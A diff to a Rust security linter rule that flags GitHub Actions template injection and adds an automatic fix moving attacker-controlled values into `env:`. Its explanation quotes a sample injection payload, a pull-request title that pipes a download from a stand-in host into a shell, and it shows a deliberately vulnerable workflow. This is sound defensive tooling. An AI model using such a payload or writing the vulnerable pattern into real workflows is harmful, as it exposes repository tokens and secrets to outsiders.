@@ -3,14 +3,14 @@ use crate::{Ctx, rule};
 use shipshape_core::{Confidence, Diagnostic};
 
 rule! {
-    code: "GHA002", name: "template-injection", severity: Error, category: Security, default: true, fix: None,
+    code: "GHA002", name: "template-injection", severity: Error, category: Security, default: true, fix: Unsafe,
     peers: ["zizmor:template-injection", "checkov:CKV_GHA_2"], options: [],
     summary: "Attacker-controlled values expanded into a shell script or github-script",
     what: "Flags `${{ }}` expressions in `run:` (and `actions/github-script`'s `script:`) that read values an outsider controls: issue, pull request, comment, review and commit titles, bodies, messages, branch names (`github.head_ref`), author names and emails. Values no outsider can choose (`github.sha`, `github.run_id`, `*.sha`, numbers, booleans, `steps.*.outcome`) are never flagged; other `github.event.*` fields are flagged with medium confidence.",
     why: "The expression is pasted into the script before the shell runs it, so a pull request titled `\"; curl evil | sh #` runs that command with the workflow's token and secrets.",
     example: "on: issues\njobs:\n  greet:\n    runs-on: ubuntu-latest\n    steps:\n      - run: echo \"New issue - ${{ github.event.issue.title }}\"",
-    instead: "on: issues\njobs:\n  greet:\n    runs-on: ubuntu-latest\n    steps:\n      - run: echo \"New issue - $TITLE\"\n        env:\n          TITLE: ${{ github.event.issue.title }}",
-    fix_safety: "No automatic fix yet: move the value into `env:` and reference it as a shell variable.",
+    instead: "on: issues\njobs:\n  greet:\n    runs-on: ubuntu-latest\n    steps:\n      - run: echo \"New issue - ${ISSUE_TITLE}\"\n        env:\n          ISSUE_TITLE: ${{ github.event.issue.title }}",
+    fix_safety: "Unsafe: moves the value into the step's `env:` and uses `${NAME}` in the script (in `run:` only). Inside single quotes the shell does not expand variables, so check the quoting.",
     refs: "- https://docs.github.com/en/actions/security-for-github-actions/security-guides/security-hardening-for-github-actions#understanding-the-risk-of-script-injections\n- https://docs.zizmor.sh/audits/#template-injection",
 }
 
@@ -88,6 +88,14 @@ pub fn injection_risk(path: &[String]) -> Option<Confidence> {
     }
 }
 
+/// An environment variable name for a context path: its last two segments, upper-cased.
+fn env_name(path: &[String]) -> String {
+    let tail: Vec<&str> = path.iter().rev().take(2).rev().map(String::as_str).collect();
+    tail.join("_")
+        .to_ascii_uppercase()
+        .replace(|c: char| !c.is_ascii_alphanumeric(), "_")
+}
+
 fn check(cx: &Ctx, out: &mut Vec<Diagnostic>) {
     for (_, step) in cx.steps() {
         let mut scripts = Vec::new();
@@ -106,6 +114,8 @@ fn check(cx: &Ctx, out: &mut Vec<Diagnostic>) {
                 for (path, _, _) in parsed.paths() {
                     let Some(confidence) = injection_risk(path) else { continue };
                     let written = &text[e.start..e.end];
+                    let name = env_name(path);
+                    let fix = (what == "run").then(|| cx.env_fix(step, node, written, &name)).flatten();
                     out.push(
                         Diagnostic::new(
                             meta(),
@@ -116,7 +126,8 @@ fn check(cx: &Ctx, out: &mut Vec<Diagnostic>) {
                             ),
                         )
                         .help("pass it through `env:` (`env: VALUE: ${{ … }}`) and use `\"$VALUE\"` in the script")
-                        .confidence(confidence),
+                        .confidence(confidence)
+                        .maybe_fix(fix),
                     );
                     break;
                 }
